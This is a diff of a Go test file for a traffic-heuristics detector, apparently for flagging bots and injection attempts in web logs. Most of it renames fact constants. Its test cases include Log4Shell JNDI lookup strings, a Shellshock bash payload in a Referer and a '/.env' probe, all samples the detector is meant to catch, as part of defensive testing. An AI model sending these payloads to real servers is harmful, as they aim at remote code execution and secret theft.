@@ -46,7 +46,7 @@ func TestWhatAnAgentDeclares(t *testing.T) {
 // A log without that field does not say that no user agent was sent.
 func TestAgentThatALogDoesNotTell(t *testing.T) {
 	ev := event("GET", "/", "", "")
-	ev.Facts |= traffic.AgentUnknown
+	ev.Facts |= traffic.FactAgentUnknown
 	if got := (heuristics.Rules{}).Request(ev); got != heuristics.NoFinding {
 		t.Error(got)
 	}
@@ -78,7 +78,7 @@ func TestMalformedRequests(t *testing.T) {
 		"HEAD":       func(ev *traffic.Event) { ev.Method = "HEAD" },
 		"PROPFIND":   func(ev *traffic.Event) { ev.Method = "PROPFIND" },
 		"30 fields":  func(ev *traffic.Event) { ev.Headers = 30 },
-		"log's host": func(ev *traffic.Event) { ev.Host, ev.Version, ev.Facts = "", 10, ev.Facts|traffic.HostUnknown },
+		"log's host": func(ev *traffic.Event) { ev.Host, ev.Version, ev.Facts = "", 10, ev.Facts|traffic.FactHostUnknown },
 	} {
 		ev := event("GET", "/", browser, "")
 		change(ev)
@@ -103,7 +103,7 @@ func TestFieldsOfTheHeader(t *testing.T) {
 		"X-Long: " + strings.Repeat("a", heuristics.MaxText) + "${jndi:": false, // out of bounds
 	} {
 		name, value, _ := strings.Cut(field, ": ")
-		if got := heuristics.FactOfField(name, value) == traffic.Injected; got != want {
+		if got := heuristics.FactOfField(name, value) == traffic.FactInjected; got != want {
 			t.Errorf("%s: %v", field, got)
 		}
 	}
@@ -118,7 +118,7 @@ func TestReferers(t *testing.T) {
 		"https://x.example/%24%7Bjndi:ldap://192.0.2.1/a%7D":            true,
 		"() { :; }; echo; /bin/bash":                                    true,
 	} {
-		if got := heuristics.FactsOf("", referer, browser) == traffic.Injected; got != want {
+		if got := heuristics.FactsOf("", referer, browser) == traffic.FactInjected; got != want {
 			t.Errorf("%s: %v", referer, got)
 		}
 	}
@@ -162,7 +162,7 @@ func TestUnknownClients(t *testing.T) {
 func TestWhatAPageAsksFor(t *testing.T) {
 	fetch := func(site, mode string) traffic.Facts {
 		c := traffic.Claims{UserAgent: browser, FetchSite: site, FetchMode: mode, FetchDest: "empty", Accept: "*/*"}
-		known := traffic.HeadersKnown | traffic.RefererKnown | traffic.SecFetch | traffic.Referer | traffic.RefererSame
+		known := traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactSecFetch | traffic.FactReferer | traffic.FactRefererSame
 		return known | c.Facts(known)
 	}
 	for name, c := range map[string]struct {
@@ -175,9 +175,9 @@ func TestWhatAPageAsksFor(t *testing.T) {
 		"of a sister's page": {"/api/cart", fetch("same-site", "cors"), heuristics.FirstFetch},
 		"of another site":    {"/api/cart", fetch("cross-site", "cors"), heuristics.UnknownClient},
 		"a page":             {"/", fetch("none", "navigate"), heuristics.UnknownClient},
-		"without Sec-Fetch":  {"/api/cart", traffic.HeadersKnown | traffic.RefererKnown | traffic.Referer | traffic.RefererSame, heuristics.FirstFetch},
-		"XHR":                {"/cart", traffic.HeadersKnown | traffic.RefererKnown | traffic.Referer | traffic.RefererSame | traffic.XHR, heuristics.FirstFetch},
-		"no Referer":         {"/api/cart", traffic.HeadersKnown | traffic.RefererKnown, heuristics.UnknownClient},
+		"without Sec-Fetch":  {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame, heuristics.FirstFetch},
+		"XHR":                {"/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame | traffic.FactXHR, heuristics.FirstFetch},
+		"no Referer":         {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown, heuristics.UnknownClient},
 	} {
 		ev := event("GET", c.path, browser, "")
 		ev.Facts = c.facts
@@ -191,9 +191,9 @@ func TestWhatAPageAsksFor(t *testing.T) {
 // The parts of a client's first page come after it, within seconds. What comes later, or in masses, is for the model.
 func TestWhatAPageAsksForSoonAfterIt(t *testing.T) {
 	ev := event("GET", "/api/cart", browser, "https://www.example.org/")
-	ev.Facts |= traffic.RefererSame
+	ev.Facts |= traffic.FactRefererSame
 	page := event("GET", "/", browser, "https://www.example.org/")
-	page.Facts |= traffic.RefererSame
+	page.Facts |= traffic.FactRefererSame
 	for name, c := range map[string]struct {
 		requests, age, addresses float32
 		ev                       *traffic.Event
@@ -219,7 +219,7 @@ func TestWhatAPageAsksForSoonAfterIt(t *testing.T) {
 func TestSwitchedOff(t *testing.T) {
 	const jndi = "/?x=${jndi:ldap://192.0.2.1/a}"
 	fetch := event("GET", "/api/x", browser, "https://www.example.org/")
-	fetch.Facts |= traffic.RefererSame
+	fetch.Facts |= traffic.FactRefererSame
 	examples := map[string]*traffic.Event{
 		"injection": event("GET", jndi, browser, ""), "damning_path": event("GET", "/.env", browser, ""), "malformed": event("TRACE", "/", browser, ""),
 		"headless": event("GET", "/", "HeadlessChrome/1 AppleWebKit/537.36", ""), "declared_tool": event("GET", "/", "curl/8", ""),
